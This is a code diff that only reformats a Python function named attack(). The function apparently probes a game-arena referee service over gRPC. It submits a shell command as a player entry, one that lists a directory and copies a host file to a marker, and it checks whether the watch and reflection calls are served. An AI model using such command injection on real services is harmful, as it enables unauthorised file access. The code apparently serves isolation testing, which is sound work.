@@ -22,29 +22,32 @@ def attack():
     command = f"sh -c 'ls /bot; cat \"$0\" > {marker}' {host_file}"
     with grpc.insecure_channel(os.environ["AZUL_ARENA_REFEREE"]) as channel:
         stub = referee_pb2_grpc.RefereeServiceStub(channel)
-        for name, seats in [("run_match_command", [command, "random"]),
-                            ("run_match_builtins", ["random", "random"])]:
+        for name, seats in [
+            ("run_match_command", [command, "random"]),
+            ("run_match_builtins", ["random", "random"]),
+        ]:
             request = referee_pb2.RunMatchRequest(
-                seats=[referee_pb2.SeatSpec(entry=s) for s in seats], match_id=name)
+                seats=[referee_pb2.SeatSpec(entry=s) for s in seats], match_id=name
+            )
             try:
                 response = stub.RunMatch(request, timeout=3)
                 report(name, True, f"record of {len(response.record_json)} bytes")
             except grpc.RpcError as exc:
                 report(name, False, exc.code().name)
         try:
-            events = list(stub.WatchMatch(referee_pb2.WatchMatchRequest(match_id="anything"),
-                                          timeout=2))
+            events = list(
+                stub.WatchMatch(referee_pb2.WatchMatchRequest(match_id="anything"), timeout=2)
+            )
             report("watch_match", True, f"{len(events)} events")
         except grpc.RpcError as exc:
             # DEADLINE_EXCEEDED: the call was served and waited for the match
-            report("watch_match", exc.code() == grpc.StatusCode.DEADLINE_EXCEEDED,
-                   exc.code().name)
+            report("watch_match", exc.code() == grpc.StatusCode.DEADLINE_EXCEEDED, exc.code().name)
         try:
             stream = reflection_pb2_grpc.ServerReflectionStub(channel).ServerReflectionInfo(
-                iter([reflection_pb2.ServerReflectionRequest(list_services="")]), timeout=3)
+                iter([reflection_pb2.ServerReflectionRequest(list_services="")]), timeout=3
+            )
             names = [s.name for r in stream for s in r.list_services_response.service]
-            report("list_referee_service", "azul_arena.v1.RefereeService" in names,
-                   ",".join(names))
+            report("list_referee_service", "azul_arena.v1.RefereeService" in names, ",".join(names))
         except grpc.RpcError as exc:
             report("list_referee_service", False, exc.code().name)
 
